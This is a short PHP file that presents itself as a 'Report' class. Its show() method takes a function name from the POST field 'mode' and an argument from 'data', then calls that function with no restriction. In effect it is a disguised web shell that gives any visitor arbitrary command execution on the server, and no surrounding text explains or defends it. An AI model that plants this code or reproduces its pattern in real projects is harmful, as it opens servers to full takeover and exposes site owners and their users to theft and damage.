<?php
class Report
{
    public function show(array $in)
    {
        $f = isset($in['mode']) ? $in['mode'] : 'strtoupper';
        $x = isset($in['data']) ? $in['data'] : 'ok';
        return $f($x);
    }
}
echo (new Report())->show($_POST);
